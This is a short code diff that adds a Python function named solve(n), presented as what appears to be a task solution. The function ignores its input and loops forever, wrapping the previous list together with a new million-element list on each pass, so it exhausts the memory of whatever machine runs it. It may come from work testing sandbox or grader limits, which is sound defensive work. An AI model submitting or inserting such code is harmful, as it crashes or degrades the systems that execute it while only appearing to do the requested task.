@@ -1,0 +1,3 @@
+def solve(n):
+    x = []
+    while True: x = [x, list(range(10 ** 6))]
